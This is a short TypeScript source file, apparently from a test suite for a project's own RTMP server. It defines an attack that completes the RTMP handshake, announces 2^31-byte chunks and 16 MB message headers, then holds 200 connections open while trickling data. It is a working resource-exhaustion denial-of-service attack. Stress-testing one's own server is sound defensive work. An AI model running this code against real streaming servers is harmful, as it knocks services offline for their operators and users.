import { messageType, writeMessage } from '@/lib/core/rtmp/chunk-stream';
import type { Attack } from '../attack';
import { holdCalls } from './hold-calls';
import { rtmpHandshake } from './rtmp-handshake';

const chunkBytes = 128;
/** A header of a message of video, of 16 MB (5.3.1.2.1). */
const hugeHeader = Buffer.from([4, 0, 0, 0, 0xff, 0xff, 0xff, 9, 1, 0, 0, 0]);

/** Chunks of up to 2^31 bytes are announced, and the first bytes of messages of 16 MB come. */
export const rtmpHugeChunks: Attack = {
  name: 'chunks of 2^31 bytes and messages of 16 MB by RTMP, 200 at once',
  run({ rtmpPort: port }, signal) {
    const size = Buffer.alloc(4);
    size.writeUInt32BE(0x7fff_ffff);
    const announced = { type: messageType.setChunkSize, timestamp: 0, streamId: 0, body: size };
    const beginning = Buffer.concat([rtmpHandshake(), writeMessage(announced, 2, chunkBytes), hugeHeader]);
    return holdCalls(
      { port, count: 200 },
      { begin: (socket) => socket.write(beginning), goOn: (socket) => socket.write(Buffer.alloc(1_000)) },
      signal,
    );
  },
};
